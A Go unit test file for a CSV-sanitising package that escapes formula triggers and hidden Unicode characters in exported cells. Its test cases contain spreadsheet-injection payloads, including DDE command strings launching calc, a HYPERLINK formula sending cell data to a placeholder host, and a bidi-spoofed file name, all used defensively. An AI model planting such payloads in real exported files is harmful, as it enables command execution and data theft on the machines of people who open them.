package csvsafe

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/keytrail/keytrail/internal/visible"
)

func TestCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		// Formula triggers at the start of a cell (OWASP, ASVS 1.2.10).
		{"equals", `=HYPERLINK("http://x/?"&A1,"x")`, `'=HYPERLINK("http://x/?"&A1,"x")`},
		{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"negative number", "-5", "'-5"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", `'\t=1+1`},
		{"carriage return", "\r=1+1", `'\r=1+1`},
		{"line feed", "\n=1+1", `'\n=1+1`},
		{"nul", "\x00=1+1", `'\u0000=1+1`},
		{"leading escape", "\x1b[2J", `'\u001b[2J`},
		{"leading bidi", "\u202e=1+1", `'\u202e=1+1`},
		{"leading zero width", "\u200b=1+1", `'\u200b=1+1`},
		// Not at the start: no apostrophe, hidden runes still spelled out.
		{"plain", "aws-cli/2.15.0 Python/3.11", "aws-cli/2.15.0 Python/3.11"},
		{"inner formula", "a=1+1", "a=1+1"},
		{"empty", "", ""},
		{"positive number", "42", "42"},
		{"apostrophe kept", "'quoted", "'quoted"},
		{"c0 controls", "a\x00b\x07c\x08d\x1be", `a\u0000b\u0007c\u0008d\u001be`},
		{"line breaks inside", "a\r\nb\tc", `a\r\nb\tc`},
		{"del and c1", "a\x7fb\u0085c\u009b", `a\u007fb\u0085c\u009b`},
		{"bidi inside", "user/\u202etxt.exe\u2066\u2069\u200e\u200f\u061c", `user/\u202etxt.exe\u2066\u2069\u200e\u200f\u061c`},
		{"zero width inside", "prod\u200b-db\u200c\u200d\u2060\ufeff", `prod\u200b-db\u200c\u200d\u2060\ufeff`},
		{"tags", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`},
		{"invalid utf-8", "a\xffb", "a\ufffdb"},
		{"letters stay", "données-秘密-ключ 🔑", "données-秘密-ключ 🔑"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Cell(tt.in); got != tt.want {
				t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestWriterQuotesEveryCell: a spreadsheet that splits on ";" or tab must
// not find a cell beginning a formula inside one of ours, and every record
// is one line that encoding/csv reads back as Cell made it.
func TestWriterQuotesEveryCell(t *testing.T) {
	rows := [][]string{
		{"principal_arn", "user_agent", "calls"},
		{"arn:aws:iam::1:user/a", `x;=cmd|' /C calc'!A0`, "3"},
		{`say "hi"`, "a,b", ""},
		{"\r\n", "x\ty", "-1"},
	}
	var b strings.Builder
	if err := NewWriter(&b).WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	want := `"principal_arn","user_agent","calls"
"arn:aws:iam::1:user/a","x;=cmd|' /C calc'!A0","3"
"say ""hi""","a,b",""
"'\r\n","x\ty","'-1"
`
	if b.String() != want {
		t.Fatalf("got\n%s\nwant\n%s", b.String(), want)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(recs) != len(rows) {
		t.Fatalf("read back %d records, %v", len(recs), err)
	}
	for i, r := range recs {
		for j, c := range r {
			if c != Cell(rows[i][j]) {
				t.Errorf("record %d cell %d = %q, want %q", i, j, c, Cell(rows[i][j]))
			}
		}
	}
}

// TestNoHiddenRuneSurvives writes every rune the visible package hides,
// alone and inside text, and checks none reaches the file raw.
func TestNoHiddenRuneSurvives(t *testing.T) {
	var b strings.Builder
	w := NewWriter(&b)
	n := 0
	for r := rune(0); r <= 0xe00ff; r++ {
		if !visible.Hidden(r) {
			continue
		}
		n++
		w.Write([]string{string(r), "x" + string(r) + "x"})
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	for _, r := range b.String() {
		if r != '\n' && visible.Hidden(r) {
			t.Fatalf("%U written raw", r)
		}
	}
	if lines := strings.Count(b.String(), "\n"); lines != n || n < 100 {
		t.Errorf("%d lines for %d records", lines, n)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterReportsErrors(t *testing.T) {
	w := NewWriter(failWriter{})
	w.Write([]string{"a"})
	if err := w.Flush(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("Flush = %v, want the writer's error", err)
	}
	if err := w.Write([]string{"b"}); err == nil {
		t.Error("Write after a failed flush succeeded")
	}
}
